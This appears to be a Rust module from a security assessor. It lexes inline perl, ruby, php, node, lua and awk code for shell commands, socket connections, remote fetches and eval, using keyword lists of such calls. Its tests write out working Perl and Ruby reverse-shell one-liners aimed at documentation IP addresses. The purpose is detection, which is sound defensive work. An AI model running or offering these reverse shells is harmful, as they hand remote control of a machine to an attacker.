//! Inline code in languages the assessor has no parser for (`perl -e`, `ruby -e`, `php -r`,
//! `node -e`, `lua -e`, `awk '...'`): read with a small lexer for what matters to a behaviour:
//! the shell commands it runs (analysed as shell), the connections it opens, what it downloads
//! and whether it evaluates what it downloaded.

use crate::facts::{Call, Expr, Span, StringLit, Taints, Value};

pub enum Scanned {
    /// A command line the script runs, to be analysed as shell code.
    Shell(String),
    /// A fact of the script itself (`@connect`, `@fetch`, `@listen`).
    Fact(Call),
    String(StringLit),
}

/// Words after which the next string literal is a command line the script runs.
const RUNNERS: &[&str] = &[
    "system",
    "exec",
    "popen",
    "shell_exec",
    "passthru",
    "proc_open",
    "execute",
    "spawn",
    "spawnSync",
    "execSync",
    "execFile",
    "execFileSync",
    "qx",
    "IO.popen",
    "Open3",
    "os.execute",
    "io.popen",
    "Process.spawn",
];

/// Marks of a network connection, per family of languages.
const CONNECTS: &[&str] = &[
    "TCPSocket",
    "UDPSocket",
    "fsockopen",
    "stream_socket_client",
    "IO::Socket",
    "PF_INET",
    "AF_INET",
    "net.Socket",
    "net.connect",
    "net.createConnection",
    "socket.tcp",
    "socket.connect",
    "/inet/tcp/",
    "/inet/udp/",
    "Socket.new",
    "connect(",
];

const LISTENS: &[&str] = &[
    "TCPServer",
    "createServer",
    "stream_socket_server",
    "Listen =>",
    "bind(",
];

const FETCHES: &[&str] = &[
    "LWP::Simple",
    "getstore",
    "LWP::UserAgent",
    "HTTP::Tiny",
    "file_get_contents",
    "open-uri",
    "URI.open",
    "Net::HTTP",
    "https.get",
    "http.get",
    "fetch(",
    "curl_exec",
    "http.request",
    "socket.http",
];

/// Calls after which a path literal is written, not read.
const WRITERS: &[&str] = &[
    "file_put_contents",
    "writeFile",
    "appendFile",
    "File.write",
    "File.open",
    "fopen",
    "io.open",
    "open(F, \">",
    ">\"",
    "> \"",
    "'>",
    "print >",
    "printf >",
];

const EVALS: &[&str] = &[
    "eval",
    "include",
    "require(",
    "instance_eval",
    "load(",
    "loadstring",
    "dofile",
    "Function(",
];

/// Languages whose inline code is read here for what it runs and connects to (besides bash and
/// Python, which are parsed). Code for any other interpreter is scanned the same way but
/// counts as code the assessor cannot follow; so do a debugger's and an editor's commands
/// (`gdb -ex`, `vim -c`), which reach whole languages of their own (Python, Vimscript).
pub const READ_LANGUAGES: &[&str] = &["perl", "ruby", "php", "node", "lua", "awk", "ed", "less", "ftp"];

/// Scans `code` of `language` (perl, ruby, php, node, lua, awk and the like).
pub fn scan(language: &str, code: &str, span: Span, taints: Taints) -> Vec<Scanned> {
    let strings = string_literals(code);
    let mut out = Vec::new();
    let mut runs_shell = false;
    let mut runs_any = false;
    for (at, literal) in &strings {
        out.push(Scanned::String(StringLit {
            text: literal.clone(),
            formatted: false,
            span,
        }));
        let tail = tail_before(code, *at);
        let runner = RUNNERS.iter().any(|r| tail.contains(r)) || tail.trim_end().ends_with('`');
        if runner || literal.trim_start().starts_with("/bin/") {
            runs_shell |= is_shell_command(literal);
            runs_any = true;
            out.push(Scanned::Shell(literal.clone()));
        }
    }
    // A shell started with its command as separate arguments, in any language
    // (`ProcessBuilder("/bin/bash", "-c", CMD)`, `spawn("sh", ["-c", CMD])`,
    // `exec.Command("sh", "-c", CMD)`): the command after `-c` is shell code.
    for window in strings.windows(3) {
        if is_shell_command(&window[0].1) && matches!(window[1].1.trim(), "-c" | "/c" | "-lc" | "-ic") {
            runs_shell = true;
            runs_any = true;
            out.push(Scanned::Shell(window[2].1.clone()));
        }
    }
    // awk runs the command a string names when it is piped: `"cmd" | getline` reads its output,
    // `print ... | "cmd"` feeds it. Both in one program pass what the first prints to the second.
    if language == "awk" {
        let readers: Vec<&String> = strings
            .iter()
            .filter(|(at, literal)| {
                // (Where the literal ends as written; escapes make it shorter, and then it is
                // not looked at.)
                code.get(at + literal.len() + 2..)
                    .and_then(|after| after.trim_start().strip_prefix('|'))
                    .is_some_and(|after| after.trim_start().starts_with("getline"))
            })
            .map(|(_, l)| l)
            .collect();
        let writers: Vec<&String> = strings
            .iter()
            .filter(|(at, _)| {
                let before = tail_before(code, *at).trim_end();
                before.ends_with('|') && !before.ends_with("||")
            })
            .map(|(_, l)| l)
            .collect();
        for command in readers.iter().chain(writers.iter()) {
            runs_any = true;
            out.push(Scanned::Shell((*command).clone()));
        }
        if let (Some(reader), Some(writer)) = (readers.first(), writers.first()) {
            out.push(Scanned::Shell(format!("{reader} | {writer}")));
        }
    }
    // vim, ed, less, man, ftp and gdb run what follows `!` (and gdb `shell`) as a shell command.
    if matches!(language, "vim" | "gdb" | "ed" | "less" | "ftp") {
        for command in code.split('!').skip(1).chain(code.split("shell ").skip(1)) {
            let command = command.trim().trim_end_matches(['\'', '"']);
            if !command.is_empty() {
                runs_shell |= is_shell_command(command);
                out.push(Scanned::Shell(command.to_string()));
            }
        }
    }
    // Backticks and qx{} run their contents (perl, ruby, php).
    if language != "node" && language != "awk" {
        for command in delimited(code, '`', '`') {
            runs_shell |= is_shell_command(&command);
            out.push(Scanned::Shell(command));
        }
    }
    // Paths the script names: written when a writing call is just before, read otherwise.
    for (at, literal) in &strings {
        let path = literal.trim();
        if !(path.starts_with('/') || path.starts_with("~/")) || path.contains(' ') || path.starts_with("/bin/") {
            continue;
        }
        let writes = WRITERS.iter().any(|w| tail_before(code, *at).contains(w));
        let mut call = Call::new(if writes { "@write" } else { "@read" }.to_string(), span);
        call.via = vec![language.to_string()];
        call.taints = taints;
        call.args.push(Expr::new(Value::Str(path.to_string())));
        out.push(Scanned::Fact(call));
    }
    let connects = CONNECTS.iter().any(|c| code.contains(c));
    let listens = LISTENS.iter().any(|c| code.contains(c));
    // awk's coprocess reads commands from the connection and runs them (`c |& getline`).
    if language == "awk" && code.contains("|&") && code.contains("getline") {
        runs_shell = true;
    }
    runs_shell |= code.contains(".pipe(") && strings.iter().any(|(_, s)| is_shell_command(s));
    let host = strings
        .iter()
        .map(|(_, s)| s.as_str())
        .find(|s| looks_like_host(s))
        .map(str::to_string)
        .unwrap_or_default();
    let fact = |name: &str, operand: String, shell: bool| {
        let mut call = Call::new(name.to_string(), span);
        call.via = vec![language.to_string()];
        call.args.push(Expr::new(Value::Str(operand)));
        if shell {
            call.flags.push("shell".into());
        }
        call.taints = taints;
        Scanned::Fact(call)
    };
    if connects {
        out.push(fact("@connect", host.clone(), runs_shell));
    }
    if listens {
        out.push(fact("@listen", host.clone(), runs_shell));
    }
    if FETCHES.iter().any(|f| code.contains(f)) {
        let url = strings
            .iter()
            .map(|(_, s)| s.as_str())
            .find(|s| s.contains("://"))
            .map(str::to_string)
            .unwrap_or_default();
        let evaluates = EVALS.iter().any(|e| code.contains(e)) || runs_any;
        let mut fetched = fact("@fetch", url, false);
        if let Scanned::Fact(call) = &mut fetched
            && evaluates
        {
            call.flags.push("eval".into());
        }
        out.push(fetched);
    }
    out
}

/// The 24 characters before `at`: where the call a string literal is given to is written.
fn tail_before(code: &str, at: usize) -> &str {
    let before = &code[..at];
    let start = before.char_indices().rev().nth(23).map_or(0, |(i, _)| i);
    &before[start..]
}

fn is_shell_command(text: &str) -> bool {
    let first = text.split_whitespace().next().unwrap_or_default();
    let program = first.rsplit('/').next().unwrap_or(first);
    matches!(
        program,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "cmd.exe" | "powershell"
    )
}

fn looks_like_host(text: &str) -> bool {
    let text = text.trim();
    let dotted = text.split('.').count() == 4 && text.split('.').all(|p| p.parse::<u8>().is_ok());
    dotted
        || (text.contains('.')
            && !text.contains(' ')
            && !text.contains('/')
            && text.len() < 80
            && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-'))
}

/// String literals (single, double quotes) with their starting offsets.
fn string_literals(code: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut chars = code.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        if c != '"' && c != '\'' {
            continue;
        }
        let mut text = String::new();
        let mut closed = false;
        while let Some((_, next)) = chars.next() {
            if next == '\\' {
                if let Some((_, escaped)) = chars.next() {
                    text.push(match escaped {
                        'n' => '\n',
                        't' => '\t',
                        other => other,
                    });
                }
                continue;
            }
            if next == c {
                closed = true;
                break;
            }
            text.push(next);
        }
        if closed && out.len() < 512 {
            out.push((at, text));
        }
    }
    out
}

fn delimited(code: &str, open: char, close: char) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = code;
    while let Some(start) = rest.find(open) {
        let after = &rest[start + open.len_utf8()..];
        let Some(end) = after.find(close) else {
            break;
        };
        out.push(after[..end].to_string());
        rest = &after[end + close.len_utf8()..];
        if out.len() >= 64 {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(language: &str, code: &str) -> (Vec<String>, Vec<String>) {
        let mut shells = Vec::new();
        let mut names = Vec::new();
        for found in scan(language, code, Span::default(), Taints::NONE) {
            match found {
                Scanned::Shell(s) => shells.push(s),
                Scanned::Fact(c) => names.push(format!("{}{}", c.name, if c.flags.is_empty() { "" } else { "+shell" })),
                Scanned::String(_) => {}
            }
        }
        (shells, names)
    }

    #[test]
    fn reverse_shells_in_other_languages_are_connections_that_run_a_shell() {
        let (shells, names) = facts(
            "perl",
            r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton("203.0.113.2")));exec("/bin/sh -i");"#,
        );
        assert!(shells.iter().any(|s| s == "/bin/sh -i"), "{shells:?}");
        assert!(names.contains(&"@connect+shell".to_string()), "{names:?}");
        let (_, names) = facts(
            "ruby",
            r#"f=TCPSocket.open("203.0.113.3",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)"#,
        );
        assert!(names.contains(&"@connect+shell".to_string()), "{names:?}");
        let (_, names) = facts("node", r#"require("child_process").exec("ls")"#);
        assert!(names.is_empty(), "{names:?}");
    }
}
